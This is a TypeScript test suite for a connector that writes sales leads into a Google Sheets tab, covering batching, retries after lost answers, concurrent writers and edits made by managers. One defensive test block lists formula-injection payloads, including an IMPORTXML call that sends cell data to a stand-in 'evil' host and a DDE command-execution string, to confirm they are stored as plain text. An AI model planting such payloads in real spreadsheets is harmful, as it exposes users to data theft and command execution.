import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { ConnectorError } from '#src/errors.ts'
import { startFake } from '#test/support/fake.ts'
import type { Outside } from '../connector.ts'
import { makeHttp } from '../http.ts'
import { makeApi } from './client.ts'
import { statusWords } from './columns.ts'
import { makeFake } from './fake.ts'
import type { SheetRow } from './plan.ts'
import { makeSheetClient, type SheetClient } from './rows.ts'
import { settings as schema } from './settings.ts'

type Act = { do: string } & Record<string, unknown>
interface Dump {
  header: (string | null)[]
  rows: (string | number | null)[][]
  meta: { metadataId: number; metadataKey: string }[]
  properties: { title: string }
}

const http = makeHttp(['127.0.0.1'])
let fake: Awaited<ReturnType<typeof startFake>>
/** Runs just before the next write reaches the service: what a manager does between plan and write. */
let beforeWrite: (() => unknown) | undefined
let now = new Date('2026-11-21T06:00:00Z')

const outside: Outside = {
  now: () => now,
  http: {
    ...http,
    request: async (call) => {
      const edit = beforeWrite
      if (edit && call.url.includes(':batchUpdate')) {
        beforeWrite = undefined
        await edit()
      }
      return http.request(call)
    },
  },
}

beforeEach(async () => {
  now = new Date('2026-11-21T06:00:00Z')
  beforeWrite = undefined
  fake = await startFake('google-sheets', makeFake, { now: () => now })
})
afterEach(() => fake.close())

function connect(more: Record<string, unknown> = {}): SheetClient {
  const settings = schema.parse({ ...fake.fake.settings(), baseUrl: fake.baseUrl, ...more })
  return makeSheetClient(makeApi(settings, outside, { readMs: 3000, writeMs: 1000 }), settings)
}
const act = (what: Act) => fake.fake.act!(what)
const dump = () => act({ do: 'read' }) as Dump
const id = (n: number) => `018f0000-0000-7000-8000-${String(n).padStart(12, '0')}`
const lead = (n: number, more: Partial<SheetRow> = {}): SheetRow => ({
  key: id(n),
  version: 1,
  cells: {
    received: '2026-11-21T06:15:00Z',
    name: `عميل ${n}`,
    phone: `+9665${String(n).padStart(8, '0')}`,
    status: 'new',
    budget: 1000 + n,
  },
  ...more,
})
const leads = (count: number, from = 1) => Array.from({ length: count }, (_, i) => lead(from + i))
/** The value of one column by header word, per lead id. */
function column(name: string): Record<string, unknown> {
  const { header, rows } = dump()
  const at = header.findIndex((text) => text === name || text?.split(' / ').some((half) => half.replace(/ \(.*/, '') === name))
  const key = header.indexOf('المعرّف / ID')
  return Object.fromEntries(rows.filter((row) => row[key]).map((row) => [String(row[key]), row[at] ?? null]))
}
const keys = () => {
  const { header, rows } = dump()
  return rows.map((row) => row[header.indexOf('المعرّف / ID')]).filter((key): key is string => typeof key === 'string')
}
const effects = (kind: string) => fake.ledger.filter((effect) => effect.kind === kind)
const calls = () => act({ do: 'calls' }) as { writes: number; reads: number; tokens: number }

describe('rows of leads', () => {
  it('puts new leads below each other, times in the zone of the sheet, numbers as numbers', async () => {
    const { rows } = await connect().writeRows(leads(3), 1)
    expect(rows.map(({ outcome }) => outcome)).toEqual(['added', 'added', 'added'])
    expect(rows[0]!.last).toEqual({
      received: '2026-11-21 09:15',
      name: 'عميل 1',
      phone: '+966500000001',
      status: 'جديد / New',
      budget: '1001',
    })
    expect(dump().header.slice(0, 4)).toEqual(['المعرّف / ID', 'وقت الوصول / Received (Asia/Riyadh)', 'القناة / Channel', 'الاسم / Name'])
    expect(keys()).toEqual([id(1), id(2), id(3)])
    expect(column('Budget')).toEqual({ [id(1)]: 1001, [id(2)]: 1002, [id(3)]: 1003 })
    expect(effects('row-added').map(({ key }) => key)).toEqual([id(1), id(2), id(3)])
  })

  it('writes of a standing row only the cells that change', async () => {
    const sheet = connect()
    const first = await sheet.writeRows(leads(2), 1)
    const again = lead(1, {
      version: 2,
      known: true,
      last: first.rows[0]!.last,
      cells: { ...lead(1).cells, status: 'offered', owner: 'سارة' },
    })
    expect((await sheet.writeRows([again], 2)).rows[0]).toMatchObject({ outcome: 'updated', edited: {} })
    expect(effects('cells-updated')).toHaveLength(1)
    expect(effects('cells-updated')[0]).toMatchObject({
      key: id(1),
      cells: {
        'الحالة / Status': { from: 'جديد / New', to: statusWords.offered },
        'المسؤول / Owner': { from: null, to: 'سارة' },
        'الإصدار / Version': { from: 1, to: 2 },
      },
    })
  })

  it('empties a cell on null and leaves alone what is not named', async () => {
    const sheet = connect()
    await sheet.writeRows([lead(1)], 1)
    await sheet.writeRows([lead(1, { version: 2, cells: { budget: null } })], 2)
    expect(column('Budget')[id(1)]).toBeNull()
    expect(column('Name')[id(1)]).toBe('عميل 1')
  })

  it('writes 10,000 leads in at most 50 calls, inside the quota of one minute, each once', async () => {
    const sheet = connect()
    for (let batch = 0; batch < 20; batch++) {
      const { rows } = await sheet.writeRows(leads(500, 1 + batch * 500), batch + 1)
      expect(rows.every(({ outcome }) => outcome === 'added')).toBe(true)
    }
    const { reads, writes } = calls()
    expect(reads + writes).toBeLessThanOrEqual(50)
    expect(keys()).toHaveLength(10_000)
    expect(new Set(keys()).size).toBe(10_000)
    expect(effects('row-added')).toHaveLength(10_000)
    expect(keys()[0]).toBe(id(1))
    expect(keys().at(-1)).toBe(id(10_000))
  }, 120_000)

  it('splits what is too much for one batch and says which rows come later', async () => {
    const long = 'ط'.repeat(40_000)
    const many = Array.from({ length: 40 }, (_, i) => lead(i + 1, { cells: { request: long } }))
    const { rows } = await connect().writeRows(many, 1)
    const later = rows.filter(({ outcome }) => outcome === 'later')
    expect(later.length).toBeGreaterThan(0)
    expect(keys()).toHaveLength(40 - later.length)
    expect((await connect().writeRows(leads(501), 2)).rows.at(-1)!.outcome).toBe('later')
  })

  it('shortens a text that no cell can hold', async () => {
    await connect().writeRows([lead(1, { cells: { request: 'x'.repeat(60_000) } })], 1)
    expect(String(column('Request')[id(1)])).toHaveLength(49_001)
  })

  it('takes the newest where one batch holds a lead twice', async () => {
    const { rows } = await connect().writeRows([lead(1, { version: 2, cells: { name: 'جديد' } }), lead(1)], 1)
    expect(rows.map(({ outcome }) => outcome)).toEqual(['added', 'stale'])
    expect(column('Name')).toEqual({ [id(1)]: 'جديد' })
  })

  it('keeps a few tags and no more, however many batches', async () => {
    const sheet = connect()
    act({ do: 'quota', writes: 10_000, reads: 10_000 })
    for (let n = 1; n <= 320; n++) await sheet.writeRows([lead(1, { version: n })], n)
    const { meta } = dump()
    expect(meta.filter(({ metadataKey }) => metadataKey === 'wasl_batch').map(({ metadataId }) => metadataId)).toEqual([320])
    expect(meta.filter(({ metadataKey }) => metadataKey === 'wasl_turn').length).toBeLessThanOrEqual(301)
  }, 60_000)
})

describe('text is never a formula', () => {
  const corpus = [
    '=IMPORTXML("http://evil/"&A1,"//a")',
    '=HYPERLINK("http://evil","x")',
    '+SUM(1,1)',
    '-1+1',
    '@x',
    '\t=1+1',
    '\r=1+1',
    '＝1+1',
    '\n=1',
    "'=1",
    '0501234567',
    '1/2',
    'TRUE',
    '1e5',
    '+966501234567',
    '=',
    '"',
    "=cmd|' /C calc'!A0",
  ]
  it.each(corpus)('keeps %j as it was typed, on a new row and on a standing one', async (text) => {
    const sheet = connect()
    const first = await sheet.writeRows([lead(1, { cells: { name: text, phone: text } }), lead(2)], 1)
    await sheet.writeRows([lead(2, { version: 2, last: first.rows[1]!.last, cells: { name: text, request: text } })], 2)
    expect(column('Name')).toEqual({ [id(1)]: text, [id(2)]: text })
    expect(column('Phone')[id(1)]).toBe(text)
    expect(JSON.stringify(dump().rows)).not.toContain('#FORMULA')
  })

  it('does not take its own text for an edit afterwards', async () => {
    const sheet = connect()
    const cells = { name: '\r=1+1', request: 'a\r\nb', budget: 500 }
    const { rows } = await sheet.writeRows([lead(1, { cells })], 1)
    const next = await sheet.writeRows([lead(1, { version: 2, cells: { ...cells, name: 'x' }, last: rows[0]!.last })], 2)
    expect(next.rows[0]).toMatchObject({ outcome: 'updated', edited: {} })
    expect(column('Name')[id(1)]).toBe('x')
  })
})

describe('a batch whose answer is lost', () => {
  it('doubles nothing and loses nothing at 30 % lost answers', async () => {
    act({ do: 'quota', writes: 100_000, reads: 100_000 })
    for (const kind of ['reset', '500', 'garbage'] as const) fake.faults.add({ when: 'after', kind, rate: 0.1, match: ':batchUpdate' })
    fake.faults.add({ when: 'before', kind: 'reset', rate: 0.1, match: ':batchUpdate' })
    const sheet = connect()
    const todo = new Map(leads(1000).map((row) => [row.key, row]))
    let lost = 0
    for (let number = 1; todo.size > 0 && number < 400; number++) {
      const batch = [...todo.values()].slice(0, 20)
      const { rows } = await sheet.writeRows(batch, number).catch(async (error: unknown) => {
        expect(error).toBeInstanceOf(ConnectorError)
        expect((error as ConnectorError).kind).toBe('uncertain')
        lost++
        return sheet.settle(number, batch)
      })
      for (const { key, outcome } of rows) if (outcome !== 'missing' && outcome !== 'later') todo.delete(key)
    }
    expect(lost).toBeGreaterThan(10)
    expect(keys()).toHaveLength(1000)
    expect(new Set(keys()).size).toBe(1000)
    expect(effects('row-added')).toHaveLength(1000)
  }, 60_000)

  it('updates each row once at lost answers too', async () => {
    const sheet = connect()
    const first = await sheet.writeRows(leads(3), 1)
    const changed = leads(3).map((row, i) => ({ ...row, version: 2, known: true, last: first.rows[i]!.last, cells: { status: 'won' } }))
    fake.faults.add({ rate: 1, when: 'after', kind: 'timeout', count: 1, match: ':batchUpdate' })
    await expect(sheet.writeRows(changed, 2)).rejects.toMatchObject({ kind: 'uncertain' })
    const settled = await sheet.settle(2, changed)
    expect(settled).toMatchObject({ applied: true, rows: [{ outcome: 'stands' }, { outcome: 'stands' }, { outcome: 'stands' }] })
    expect(settled.rows[0]!.last.status).toBe(statusWords.won)
    expect(effects('cells-updated')).toHaveLength(3)
  })

  it('says missing of a batch that never arrived', async () => {
    const sheet = connect()
    await sheet.writeRows([lead(9)], 1)
    fake.faults.add({ rate: 1, when: 'before', kind: '500', count: 1, match: ':batchUpdate' })
    await expect(sheet.writeRows(leads(2), 2)).rejects.toMatchObject({ kind: 'uncertain' })
    expect(await sheet.settle(2, leads(2))).toMatchObject({ applied: false, rows: [{ outcome: 'missing' }, { outcome: 'missing' }] })
  })

  it('refuses a blind repeat of the same number and says that it stands', async () => {
    const sheet = connect()
    fake.faults.add({ rate: 1, when: 'after', kind: 'reset', count: 1, match: 'insertDimension":{"range":{"sheetId":0,"dimension":"ROWS' })
    await expect(sheet.writeRows(leads(2), 1)).rejects.toMatchObject({ kind: 'uncertain' })
    const again = await connect().writeRows(leads(2), 1)
    expect(again.rows.map(({ outcome }) => outcome)).toEqual(['unchanged', 'unchanged'])
    expect(keys()).toHaveLength(2)
  })

  it('does not add a row again that a person deleted right after the lost answer', async () => {
    const sheet = connect()
    fake.faults.add({ rate: 1, when: 'after', kind: 'reset', count: 1, match: 'insertDimension":{"range":{"sheetId":0,"dimension":"ROWS' })
    await expect(sheet.writeRows(leads(2), 1)).rejects.toMatchObject({ kind: 'uncertain' })
    act({ do: 'delete-row', key: id(2) })
    expect((await sheet.settle(1, leads(2))).rows.map(({ outcome }) => outcome)).toEqual(['stands', 'deleted'])
    expect((await connect().writeRows(leads(2), 1)).rows.map(({ outcome }) => outcome)).toEqual(['unchanged', 'deleted'])
    expect(keys()).toEqual([id(1)])
  })

  it('never applies a late batch and its successor both', async () => {
    const slow = connect()
    const quick = connect()
    await slow.writeRows([lead(9)], 1)
    // The first one hangs on its way; meanwhile the same leads are written under the next number.
    beforeWrite = () => quick.writeRows(leads(3), 3)
    const { rows } = await slow.writeRows(leads(3), 2)
    expect(rows.map(({ outcome }) => outcome)).toEqual(['unchanged', 'unchanged', 'unchanged'])
    expect(keys()).toHaveLength(4)
    expect(effects('row-added')).toHaveLength(4)
  })

  it('uses a number again that was counted before a restored backup', async () => {
    const sheet = connect()
    await sheet.writeRows(leads(2), 7)
    const { rows } = await connect().writeRows(leads(2, 5), 7)
    expect(rows.map(({ outcome }) => outcome)).toEqual(['added', 'added'])
    expect(keys()).toEqual([id(1), id(2), id(5), id(6)])
  })

  it('refuses a number that another tab of the spreadsheet holds', async () => {
    act({ do: 'add-tab', title: 'فرع جدة' })
    await connect().writeRows([lead(1)], 1)
    await expect(connect({ tab: 'فرع جدة' }).writeRows([lead(1)], 1)).rejects.toMatchObject({
      kind: 'rejected',
      code: 'batch_number_taken',
    })
    expect((await connect({ tab: 'فرع جدة' }).writeRows([lead(1)], 2)).rows[0]!.outcome).toBe('added')
  })
})

describe('two writers and versions', () => {
  it('lets the newer version win whoever comes last', async () => {
    const one = connect()
    const two = connect()
    await one.writeRows([lead(1)], 1)
    await two.writeRows([lead(1, { version: 3, cells: { status: 'won' } })], 2)
    expect((await one.writeRows([lead(1, { version: 2, cells: { status: 'offered' } })], 3)).rows[0]!.outcome).toBe('stale')
    expect(column('Status')[id(1)]).toBe(statusWords.won)
    expect(column('Version')[id(1)]).toBe(3)
  })

  it('lets the newer version win when both planned before either wrote', async () => {
    const one = connect()
    const two = connect()
    await one.writeRows([lead(1)], 1)
    beforeWrite = () => two.writeRows([lead(1, { version: 3, cells: { status: 'won' } })], 2)
    expect((await one.writeRows([lead(1, { version: 2, cells: { status: 'offered' } })], 3)).rows[0]!.outcome).toBe('stale')
    expect(column('Status')[id(1)]).toBe(statusWords.won)
    const versions = effects('cells-updated').flatMap((effect) => {
      const to = (effect.cells as Record<string, { to: unknown }>)['الإصدار / Version']?.to
      return to === undefined ? [] : [to]
    })
    expect(versions).toEqual([3])
  })

  it('adds a lead once when two workers plan it at the same time', async () => {
    const [one, two] = [connect(), connect()]
    await one.writeRows([lead(9)], 1)
    await Promise.all([one.writeRows(leads(5), 2), two.writeRows(leads(5), 3)])
    expect(keys().sort()).toEqual([id(1), id(2), id(3), id(4), id(5), id(9)])
    expect(effects('row-added')).toHaveLength(6)
  })

  it('makes the columns once when two workers meet an empty tab', async () => {
    await Promise.all([connect().writeRows([lead(1)], 1), connect().writeRows([lead(2)], 2)])
    expect(keys().sort()).toEqual([id(1), id(2)])
    expect(dump().header.filter((text) => text === 'الحالة / Status')).toHaveLength(1)
  })
})

/** Each edit, with what it makes of the leads: 1 and 3 are being updated, 7 is being added. */
const edits: { what: Act; gone?: number[]; edited?: number[] }[] = [
  { what: { do: 'sort', by: 'name', desc: true } },
  { what: { do: 'sort', by: 'ملاحظات' } },
  { what: { do: 'filter', column: 'status', value: 'nothing has this' } },
  { what: { do: 'insert-column', at: 0, header: 'لون', values: { [id(1)]: 'أحمر', [id(5)]: 'أزرق' } } },
  { what: { do: 'insert-column', at: 11, header: 'لون', values: { [id(1)]: 'أحمر', [id(3)]: 'أخضر' } } },
  { what: { do: 'insert-column', at: 18 } },
  { what: { do: 'move-column', column: 'status', to: 2 } },
  { what: { do: 'move-column', column: 'id', to: 9 } },
  { what: { do: 'move-column', column: 'ملاحظات', to: 3 } },
  { what: { do: 'rename-header', column: 'status', to: 'وين وصلنا' } },
  { what: { do: 'delete-row', key: id(2) } },
  { what: { do: 'delete-row', key: id(1) }, gone: [1] },
  { what: { do: 'insert-row', at: 1 } },
  { what: { do: 'add-row', at: 2, cells: { name: 'صف المدير', status: 'خاص', ملاحظات: 'لا تلمس' } } },
  { what: { do: 'add-row', cells: { name: 'صف المدير', status: 'خاص', ملاحظات: 'لا تلمس' } } },
  { what: { do: 'edit', key: id(1), column: 'status', value: 'اتصلت به' }, edited: [1] },
  { what: { do: 'edit', key: id(1), column: 'ملاحظات', value: 'مهم جدًا' } },
  { what: { do: 'delete-column', column: 'budget' } },
  { what: { do: 'rename-tab', to: 'عملاء ٢٠٢٦' } },
  { what: { do: 'copy-row', key: id(4) } },
  { what: { do: 'resize', rows: 8 } },
]

describe('managers change the sheet', () => {
  const notes: Record<string, string> = { [id(1)]: 'ملاحظة ١', [id(2)]: '٢', [id(3)]: '٣', [id(4)]: '٤', [id(5)]: '٥', [id(6)]: '٦' }

  /** Everything that is not wasl's: foreign columns of each row, and whole rows without a lead. */
  function foreign(): string[] {
    const { header, rows } = dump()
    const ours = new Set(header.flatMap((text, i) => (text?.includes(' / ') || text === 'وين وصلنا' ? [i] : [])))
    const key = header.indexOf('المعرّف / ID')
    return rows
      .flatMap((row) =>
        row.flatMap((cell, i) => (cell !== null && (!ours.has(i) || !row[key]) ? [`${row[key] ?? '–'}|${header[i]}|${cell}`] : [])),
      )
      .sort()
  }

  async function prepare(): Promise<{ sheet: SheetClient; last: Record<string, string>[] }> {
    const sheet = connect()
    const { rows } = await sheet.writeRows(leads(6), 1)
    act({ do: 'insert-column', at: 17, header: 'ملاحظات', values: notes })
    act({ do: 'add-row', cells: { ملاحظات: 'المجموع', name: 'صف ثابت' } })
    return { sheet, last: rows.map(({ last }) => last) }
  }

  const changes = (last: Record<string, string>[]): SheetRow[] => [
    lead(1, { version: 2, known: true, last: last[0], cells: { status: 'offered', owner: 'سارة' } }),
    lead(3, { version: 2, known: true, last: last[2], cells: { status: 'won', odooLink: 'https://odoo.example/3' } }),
    lead(7),
  ]

  function expectStanding({ gone = [], edited = [] }: { gone?: number[]; edited?: number[] }, was: string[], before: string[]): void {
    const stand = before.filter((key) => !gone.includes(Number(key.slice(-3))))
    expect([...new Set(keys())].sort()).toEqual([...new Set([...stand, id(7)])].sort())
    expect(keys().filter((key) => key === id(7))).toHaveLength(1)
    const status = column(dump().header.includes('وين وصلنا') ? 'وين وصلنا' : 'Status')
    if (!gone.includes(1)) expect(status[id(1)]).toBe(edited.includes(1) ? 'اتصلت به' : statusWords.offered)
    if (!gone.includes(1)) expect(column('Owner')[id(1)]).toBe('سارة')
    expect(status[id(3)]).toBe(statusWords.won)
    expect(column('Odoo link')[id(3)]).toBe('https://odoo.example/3')
    expect(column('Name')[id(7)]).toBe('عميل 7')
    for (const n of [4, 5, 6])
      expect([column('Name')[id(n)], status[id(n)], column('Version')[id(n)]]).toEqual([`عميل ${n}`, statusWords.new, 1])
    expect(foreign()).toEqual(was)
  }

  it.each(edits)('between two batches: $what.do $what.column $what.at', async ({ what, ...then }) => {
    const { sheet, last } = await prepare()
    await act(what)
    const [was, before] = [foreign(), keys()]
    const { rows } = await sheet.writeRows(changes(last), 2)
    expect(rows.map(({ outcome }) => outcome)).toEqual([then.gone ? 'deleted' : 'updated', 'updated', 'added'])
    expect(rows[0]!.edited).toEqual(then.edited ? { status: 'اتصلت به' } : {})
    expectStanding(then, was, before)
    expect(effects('row-removed')).toEqual([])
  })

  it.each(edits)('between plan and write: $what.do $what.column $what.at', async ({ what, ...then }) => {
    const { sheet, last } = await prepare()
    let [was, before] = [foreign(), keys()]
    beforeWrite = async () => {
      await act(what)
      was = foreign()
      before = keys()
    }
    const { rows } = await sheet.writeRows(changes(last), 2)
    expect(beforeWrite).toBeUndefined()
    expect(rows.map(({ outcome }) => outcome)).toEqual([then.gone ? 'deleted' : 'updated', 'updated', 'added'])
    expectStanding(then, was, before)
  })

  it.each(edits)('between plan and write, with the answer lost: $what.do $what.column $what.at', async ({ what, ...then }) => {
    const { sheet, last } = await prepare()
    let [was, before] = [foreign(), keys()]
    beforeWrite = async () => {
      await act(what)
      was = foreign()
      before = keys()
      fake.faults.add({ rate: 1, when: 'after', kind: 'reset', count: 1, match: ':batchUpdate' })
    }
    const rows = changes(last)
    const lost = await sheet.writeRows(rows, 2).then(
      () => false,
      (error: ConnectorError) => error.kind === 'uncertain' && error.code !== 'sheet_moved',
    )
    // Another process settles it, with nothing but the numbers and the rows.
    const other = connect()
    if (lost) {
      const settled = await other.settle(2, rows)
      const missing = rows.filter(({ key }) => settled.rows.find((row) => row.key === key)!.outcome === 'missing')
      if (missing.length > 0) await other.writeRows(missing, 3)
    }
    expectStanding(then, was, before)
  })

  it('leaves a cell of ours that a person edited, and says so every time until it agrees', async () => {
    const { sheet, last } = await prepare()
    act({ do: 'edit', key: id(1), column: 'phone', value: '0555 خاص' })
    const next = lead(1, { version: 2, known: true, last: last[0], cells: { ...lead(1).cells, phone: '+966599999999', status: 'won' } })
    const { rows } = await sheet.writeRows([next], 2)
    expect(rows[0]).toMatchObject({
      outcome: 'updated',
      edited: { phone: '0555 خاص' },
      last: { phone: '+966500000001', status: statusWords.won },
    })
    expect(column('Phone')[id(1)]).toBe('0555 خاص')
    const third = await sheet.writeRows([{ ...next, version: 3, last: rows[0]!.last }], 3)
    expect(third.rows[0]!.edited).toEqual({ phone: '0555 خاص' })
  })

  it('never brings a row back that a person deleted', async () => {
    const { sheet } = await prepare()
    act({ do: 'delete-row', key: id(4) })
    expect((await sheet.writeRows([lead(4, { version: 2, known: true })], 2)).rows[0]!.outcome).toBe('deleted')
    expect(keys()).not.toContain(id(4))
  })

  it('does not fill a column again that a person deleted', async () => {
    const { sheet } = await prepare()
    act({ do: 'delete-column', column: 'campaign' })
    await sheet.writeRows([lead(8, { cells: { name: 'x', campaign: 'رمضان' } })], 2)
    expect(dump().header.join()).not.toContain('Campaign')
    expect(column('Name')[id(8)]).toBe('x')
  })

  it('never takes a manager’s own column called Status for ours', async () => {
    const { sheet, last } = await prepare()
    act({ do: 'delete-column', column: 'status' })
    act({ do: 'insert-column', at: 4, header: 'Status', values: { [id(1)]: 'my own' } })
    await connect().writeRows(changes(last), 2)
    await sheet.writeRows([lead(8)], 3)
    expect(column('Status')).toMatchObject({ [id(1)]: 'my own', [id(8)]: null })
  })

  it('writes into a tab copied without its tags, by the headers', async () => {
    const { sheet } = await prepare()
    const copy = dump().header
    act({ do: 'new-spreadsheet', spreadsheetId: '1CopyOfTheSheetWithoutAnyTags', tabs: ['العملاء'] })
    act({ do: 'add-row', spreadsheetId: '1CopyOfTheSheetWithoutAnyTags', cells: copy.map((text) => text ?? '') })
    await connect({ spreadsheetId: '1CopyOfTheSheetWithoutAnyTags' }).writeRows([lead(1)], 1)
    const other = act({ do: 'read', spreadsheetId: '1CopyOfTheSheetWithoutAnyTags' }) as Dump
    expect(other.header).toEqual(copy)
    expect(other.rows[0]).toContain('عميل 1')
    expect((await sheet.writeRows([lead(8)], 2)).rows[0]!.outcome).toBe('added')
  })

  it('parks and names the tabs found when the tab is deleted, before or during a write', async () => {
    const { sheet } = await prepare()
    act({ do: 'add-tab', title: 'مصاريف' })
    beforeWrite = () => act({ do: 'delete-tab' })
    for (let n = 0; n < 2; n++) {
      const error = await sheet.writeRows([lead(8)], 2).catch((thrown: unknown) => thrown)
      expect(error).toMatchObject({ kind: 'unauthorized', code: 'tab_missing' })
      expect((error as Error).message).toContain('مصاريف')
    }
    expect((act({ do: 'read' }) as Dump).properties.title).toBe('مصاريف')
  })

  it('parks when the column of ids is gone, and adds nothing', async () => {
    const { sheet } = await prepare()
    beforeWrite = () => act({ do: 'delete-column', column: 'id' })
    await expect(sheet.writeRows([lead(8)], 2)).rejects.toMatchObject({ kind: 'unauthorized', code: 'key_missing' })
    expect(dump().rows.flat()).not.toContain(id(8))
    expect(dump().rows.flat()).not.toContain('عميل 8')
  })

  it.each([
    [{ do: 'protect' }, 'protected'],
    [{ do: 'protect', column: 'status' }, 'protected'],
    [{ do: 'revoke-access' }, 'forbidden'],
    [{ do: 'read-only' }, 'forbidden'],
  ])('parks on %j between plan and write, and goes on afterwards', async (what, code) => {
    const { sheet, last } = await prepare()
    beforeWrite = () => act(what)
    await expect(sheet.writeRows(changes(last), 2)).rejects.toMatchObject({ kind: 'unauthorized', code })
    act({ do: 'restore-access' })
    act({ do: 'unprotect' })
    expect((await sheet.writeRows(changes(last), 3)).rows.map(({ outcome }) => outcome)).toEqual(['updated', 'updated', 'added'])
  })

  it('parks on a full spreadsheet', async () => {
    const { sheet } = await prepare()
    const width = (dump().properties as unknown as { gridProperties: { columnCount: number } }).gridProperties.columnCount
    act({ do: 'resize', rows: Math.floor(9_950_000 / width) })
    expect((await sheet.writeRows(leads(500, 10), 2)).rows[0]!.outcome).toBe('added')
    act({ do: 'resize', rows: Math.floor(9_970_000 / width) })
    await expect(sheet.writeRows(leads(500, 600), 3)).rejects.toMatchObject({ kind: 'unauthorized', code: 'sheet_full' })
    expect(keys()).toHaveLength(506)
  })

  it('gives up for now where people never stop', async () => {
    const { sheet, last } = await prepare()
    let turned = 0
    let refused = 0
    const restless = (): void => {
      try {
        act({ do: 'sort', by: 'name', desc: turned % 2 === 0 })
        turned++
      } catch {
        // Locked for the moment in which wasl puts its own write right.
        refused++
      }
      beforeWrite = restless
    }
    const was = foreign()
    beforeWrite = restless
    const error = await sheet.writeRows(changes(last), 2).catch((thrown: ConnectorError) => thrown)
    beforeWrite = undefined
    expect(error).toMatchObject({ kind: 'retry', code: 'sheet_busy' })
    expect(refused).toBeGreaterThan(0)
    expect(foreign()).toEqual(was)
    for (const n of [2, 4, 5, 6])
      expect([column('Name')[id(n)], column('Status')[id(n)], column('Owner')[id(n)]]).toEqual([`عميل ${n}`, statusWords.new, null])
    act({ do: 'sort', by: 'received' })
    expect((await sheet.writeRows(changes(last), 3)).rows.map(({ outcome }) => outcome)).not.toContain('deleted')
    expectStanding({}, was, [1, 2, 3, 4, 5, 6].map(id))
  })

  it('unlocks the tab again when it died while putting its own write right', async () => {
    const { sheet, last } = await prepare()
    beforeWrite = () => {
      act({ do: 'sort', by: 'name', desc: true })
      beforeWrite = () => {
        fake.faults.add({ rate: 1, when: 'after', kind: 'reset', count: 1, match: 'addProtectedRange' })
      }
    }
    await expect(sheet.writeRows(changes(last), 2)).rejects.toMatchObject({ kind: 'uncertain' })
    expect(() => act({ do: 'sort', by: 'name' })).toThrow('protected')
    const settled = await connect().settle(2, changes(last))
    expect(settled.rows.map(({ outcome }) => outcome)).toContain('missing')
    await connect().writeRows(changes(last), 3)
    act({ do: 'sort', by: 'name' })
    expectStanding({}, foreign(), [1, 2, 3, 4, 5, 6].map(id))
  })

  it.each(edits.filter(({ what, gone, edited }) => !gone && !edited && what.do !== 'resize'))(
    'while it puts its own write right: $what.do $what.column $what.at',
    async ({ what }) => {
      const { sheet, last } = await prepare()
      const own = foreign()
      let before = keys()
      beforeWrite = () => {
        act({ do: 'sort', by: 'name', desc: true })
        act({ do: 'move-column', column: 'ملاحظات', to: 5 })
        beforeWrite = () => {
          act(what)
          before = keys()
        }
      }
      const wrote = await sheet.writeRows(changes(last), 2)
      expect(wrote.rows.map(({ outcome }) => outcome)).toEqual(['updated', 'updated', 'added'])
      expectStanding({}, foreign(), before)
      const isTouched = (line: string) => ['edit', 'delete-row'].includes(what.do) && line.startsWith(String(what.key))
      expect(foreign()).toEqual(expect.arrayContaining(own.filter((line) => !isTouched(line))))
    },
  )

  it('forgets the copies it made of people’s cells when asked', async () => {
    const { sheet, last } = await prepare()
    await sheet.writeRows(changes(last), 2)
    const guard = () => JSON.stringify((act({ do: 'read', tab: 'wasl-guard' }) as Dump).rows)
    expect(guard()).toContain('عميل 1')
    await sheet.forgetCopies()
    expect(guard()).not.toContain('عميل 1')
    expect((await sheet.writeRows([lead(8)], 3)).rows[0]!.outcome).toBe('added')
  })
})
